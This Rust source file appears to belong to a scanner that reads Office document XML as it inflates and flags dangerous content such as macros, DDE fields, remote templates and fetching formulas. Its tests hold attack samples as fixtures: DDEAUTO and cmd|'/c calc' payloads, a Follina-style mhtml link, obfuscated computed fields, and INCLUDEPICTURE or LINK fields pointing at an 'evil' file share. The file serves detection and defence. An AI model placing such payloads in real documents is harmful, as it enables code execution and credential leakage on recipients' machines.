//! The XML parts of a package, read as they inflate: tags, the text of field instructions and
//! formulas, and the fields a document nests, for `rules` to judge. Parts that do not start as
//! XML (images, binary parts) are left alone.

use super::rules::{self, add, attribute, decode, local};
use crate::i18n::FileMsg;

/// A tag longer than this is not one an Office application writes; it cannot be judged whole.
const MAX_TAG: usize = 64 << 10;
/// Enough of a field code or a formula to know what it does.
const MAX_TEXT: usize = 1024;

/// Text being kept: a field's instruction, or a cell's formula.
#[derive(Clone, Copy, PartialEq)]
enum Capture {
    Instruction,
    Formula,
}

/// A field being read: its instruction so far, and whether its result has begun.
struct Field {
    code: Vec<u8>,
    separated: bool,
}

#[derive(Default)]
pub(super) struct PartReader {
    /// None until the first byte that is not white space: XML or not.
    xml: Option<bool>,
    /// Inside `< … >`: the tag so far (lower case), and the quote of a value being read, since
    /// an attribute value may hold `>`.
    tag: Option<Vec<u8>>,
    quote: Option<u8>,
    /// Fields begun and not yet ended, innermost last: Word nests them.
    fields: Vec<Field>,
    capture: Option<Capture>,
    formula: Vec<u8>,
    pub(super) unchecked: Option<FileMsg>,
}

impl PartReader {
    pub(super) fn feed(&mut self, bytes: &[u8], found: &mut Vec<FileMsg>) {
        for &byte in bytes {
            if self.xml.is_none() {
                if byte.is_ascii_whitespace() || b"\xEF\xBB\xBF".contains(&byte) {
                    continue;
                }
                self.xml = Some(byte == b'<');
            }
            if self.xml != Some(true) {
                return;
            }
            self.byte(byte.to_ascii_lowercase(), found);
        }
    }

    /// False once the part shows it is not XML: the rest need not be inflated for it.
    pub(super) fn wants_more(&self) -> bool {
        self.xml != Some(false)
    }

    /// Text between tags (or in a CDATA section), kept where it is a field code or a formula.
    fn text(&mut self, bytes: &[u8]) {
        let kept = match self.capture {
            Some(Capture::Instruction) => match self.fields.last_mut() {
                Some(field) if !field.separated => &mut field.code,
                _ => return,
            },
            Some(Capture::Formula) => &mut self.formula,
            None => return,
        };
        let room = MAX_TEXT.saturating_sub(kept.len());
        kept.extend(bytes.iter().take(room));
    }

    fn byte(&mut self, byte: u8, found: &mut Vec<FileMsg>) {
        let Some(tag) = &mut self.tag else {
            if byte == b'<' {
                self.tag = Some(Vec::new());
            } else {
                self.text(&[byte]);
            }
            return;
        };
        // A comment or a CDATA section runs to its own end, quotes and `>` included; the text of
        // a CDATA section is text like any other.
        if tag.starts_with(b"!--") || tag.starts_with(b"![cdata[") {
            tag.push(byte);
            let comment = tag.starts_with(b"!--");
            if comment && tag.len() > 5 && tag.ends_with(b"-->") {
                self.tag = None;
            } else if !comment && tag.ends_with(b"]]>") {
                let text = tag[8..tag.len() - 3].to_vec();
                self.tag = None;
                self.text(&text);
            } else if tag.len() > MAX_TAG {
                self.unchecked.get_or_insert(FileMsg::OfficeUnreadable);
                self.tag = None;
            }
            return;
        }
        match (self.quote, byte) {
            (Some(quote), b) if b == quote => self.quote = None,
            (None, b'"' | b'\'') => self.quote = Some(byte),
            (None, b'>') => {
                let tag = std::mem::take(tag);
                self.tag = None;
                self.element(&tag, found);
                return;
            }
            _ => {}
        }
        if tag.len() < MAX_TAG {
            tag.push(byte);
        } else {
            self.unchecked.get_or_insert(FileMsg::OfficeUnreadable);
        }
    }

    /// A whole tag, `<` and `>` left off.
    fn element(&mut self, tag: &[u8], found: &mut Vec<FileMsg>) {
        let closing = tag.starts_with(b"/");
        let name_end = tag
            .iter()
            .position(|b| b.is_ascii_whitespace() || *b == b'/' && !closing)
            .unwrap_or(tag.len());
        let name = local(&tag[usize::from(closing)..name_end]);
        let self_closing = tag.ends_with(b"/");
        rules::any_tag(tag, found);
        match (name, closing) {
            (b"fldchar", false) => match attribute(tag, b"fldchartype").as_deref() {
                Some("begin") => self.begin_field(found),
                Some("separate") => self.separate_field(found),
                Some("end") => {
                    self.separate_field(found);
                    self.fields.pop();
                }
                _ => {}
            },
            (b"instrtext", false) if !self_closing => self.capture = Some(Capture::Instruction),
            (b"f" | b"definedname", false) if !self_closing => {
                self.formula.clear();
                self.capture = Some(Capture::Formula);
            }
            (b"instrtext", true) => self.capture = None,
            (b"f" | b"definedname", true) => {
                self.capture = None;
                rules::formula(&decode(&self.formula), found);
            }
            (_, false) => rules::element(name, tag, found),
            _ => {}
        }
    }

    fn begin_field(&mut self, found: &mut Vec<FileMsg>) {
        // A field nested before the outer field's first word has ended makes that word: Word
        // reads the outer field's type with the inner one's result in it (`{ D{QUOTE 68 69} … }`).
        if let Some(outer) = self.fields.last()
            && !outer.separated
            && !decode(&outer.code)
                .trim_start()
                .contains(char::is_whitespace)
        {
            add(found, FileMsg::OfficeComputedField);
        }
        self.fields.push(Field {
            code: Vec::new(),
            separated: false,
        });
    }

    fn separate_field(&mut self, found: &mut Vec<FileMsg>) {
        if let Some(field) = self.fields.last_mut()
            && !field.separated
        {
            field.separated = true;
            rules::field(&decode(&field.code), found);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(xml: &str) -> Vec<FileMsg> {
        let mut found = Vec::new();
        for chunk in [1, 5, usize::MAX] {
            let mut reader = PartReader::default();
            let mut each = Vec::new();
            for piece in xml.as_bytes().chunks(chunk) {
                reader.feed(piece, &mut each);
            }
            if chunk == 1 {
                found = each;
            } else {
                assert_eq!(each, found, "chunks of {chunk}");
            }
        }
        found
    }

    const RELS: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

    #[test]
    fn remote_templates_and_linked_objects_are_found_local_ones_kept() {
        let remote = format!(
            r#"<Relationships><Relationship Id="r1" Type="{RELS}/attachedTemplate" Target="https://x.example/t.dotm" TargetMode="External"/></Relationships>"#
        );
        let links = |kind: &str| FileMsg::OfficeLinks { kind: kind.into() };
        assert_eq!(read(&remote), vec![links("attachedTemplate")]);
        let local = remote.replace("https://x.example/t.dotm", "file:///C:/模板/公文.dotx");
        assert_eq!(read(&local), vec![]);
        let unc = remote.replace("https://x.example/t.dotm", "file://host/share/t.dotm");
        assert_eq!(read(&unc), vec![links("attachedTemplate")]);
        let follina = format!(
            r#"<Relationship Type='{RELS}/oleObject' Target='mhtml:http://x/!x' TargetMode='&#69;xternal'/>"#
        );
        assert_eq!(read(&follina), vec![links("oleObject")]);
        let renamed =
            format!(r#"<Relationship Type="{RELS}/oleObject" Target="media/image1.emf"/>"#);
        assert_eq!(
            read(&renamed),
            vec![FileMsg::OfficeEmbedded {
                name: "image1.emf".into()
            }]
        );
    }

    #[test]
    fn dde_fields_are_found_however_their_code_is_split() {
        let split = r#"<w:document><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> D</w:instrText></w:r><w:r><w:instrText>&#68;EAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r></w:p></w:document>"#;
        assert_eq!(read(split), vec![FileMsg::OfficeDde]);
        let hidden = r#"<!-- don't --><w:fldChar w:fldCharType="begin"/><w:instrText><![CDATA[ DDEAUTO "x>y" ]]></w:instrText><w:fldChar w:fldCharType="end"/>"#;
        assert_eq!(read(hidden), vec![FileMsg::OfficeDde]);
        let simple = r#"<w:fldSimple w:instr=" DDE cmd &quot;/c calc&quot;"/>"#;
        assert_eq!(read(simple), vec![FileMsg::OfficeDde]);
        let page = r#"<w:fldChar w:fldCharType="begin"/><w:instrText> PAGE </w:instrText><w:fldChar w:fldCharType="end"/><w:t>《第１页》</w:t>"#;
        assert_eq!(read(page), vec![]);
    }

    #[test]
    fn fields_that_fetch_or_are_computed_and_formulas_that_run_are_found() {
        let field = |code: &str| {
            read(&format!(
                r#"<w:fldChar w:fldCharType="begin"/><w:instrText>{code}</w:instrText><w:fldChar w:fldCharType="end"/>"#
            ))
        };
        let links = |kind: &str| vec![FileMsg::OfficeLinks { kind: kind.into() }];
        assert_eq!(
            field(r#" INCLUDEPICTURE "\\\\evil\\share\\x.png" \d "#),
            links("INCLUDEPICTURE")
        );
        assert_eq!(
            field(r#" INCLUDETEXT "http://x.example/a.docx" "#),
            links("INCLUDETEXT")
        );
        assert_eq!(field(r#" INCLUDEPICTURE "C:\\图片\\1.png" "#), vec![]);
        let computed = r#"<w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE 68 68 69</w:instrText><w:fldChar w:fldCharType="end"/><w:instrText> cmd.exe</w:instrText><w:fldChar w:fldCharType="end"/>"#;
        assert_eq!(read(computed), vec![FileMsg::OfficeComputedField]);
        let spelt = computed.replace(
            "<w:fldChar w:fldCharType=\"begin\"/><w:fldChar",
            "<w:fldChar w:fldCharType=\"begin\"/><w:instrText>D</w:instrText><w:fldChar",
        );
        assert_ne!(spelt, computed);
        assert_eq!(read(&spelt), vec![FileMsg::OfficeComputedField]);
        let nested = r#"<w:fldChar w:fldCharType="begin"/><w:instrText>IF </w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>MERGEFIELD 姓名</w:instrText><w:fldChar w:fldCharType="end"/><w:instrText> = "张" "是" "否"</w:instrText><w:fldChar w:fldCharType="end"/>"#;
        assert_eq!(read(nested), vec![]);
        assert_eq!(
            read("<c><f>cmd|' /C calc'!A0</f></c>"),
            vec![FileMsg::OfficeDde]
        );
        assert_eq!(
            read("<c><f>WEBSERVICE(\"http://x/\")</f></c>"),
            links("WEBSERVICE")
        );
        assert_eq!(read("<c><f>SUM(A1:A9)</f></c>"), vec![]);
        let name =
            r#"<definedNames><definedName name="x">cmd|'/c calc'!A0</definedName></definedNames>"#;
        assert_eq!(read(name), vec![FileMsg::OfficeDde]);
        let share = r#"<c><f>'\\evil\share\[x.xlsx]Sheet1'!A1</f></c>"#;
        assert_eq!(read(share), links("formula"));
        let click = r#"<a:hlinkClick r:id="" action="ppaction://pro&#x67;ram"/>"#;
        assert_eq!(read(click), vec![FileMsg::OfficeRuns]);
        let link = r#"<w:fldChar w:fldCharType="begin"/><w:instrText> LINK Excel.Sheet.8 "\\\\evil\\s\\x.xls" "Sheet1!R1C1" \a </w:instrText><w:fldChar w:fldCharType="end"/>"#;
        assert_eq!(read(link), links("LINK"));
    }

    #[test]
    fn a_macro_project_is_found_by_its_content_type_whatever_its_name() {
        let types = r#"<Types><Override PartName="/word/media/logo.png" ContentType="application/vnd.ms-office.vbaProject"/></Types>"#;
        assert_eq!(read(types), vec![FileMsg::OfficeMacros]);
        let xlm = r#"<Override PartName="/xl/x.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>"#;
        assert_eq!(read(xlm), vec![FileMsg::OfficeMacros]);
        let xlsb = r#"<Override PartName="/xl/workbook.bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>"#;
        assert_eq!(read(xlsb), vec![]);
        // A part that is not XML is not read.
        assert_eq!(
            read("\u{89}PNG <Relationship Type=\"x/vbaProject\"/>"),
            vec![]
        );
    }
}
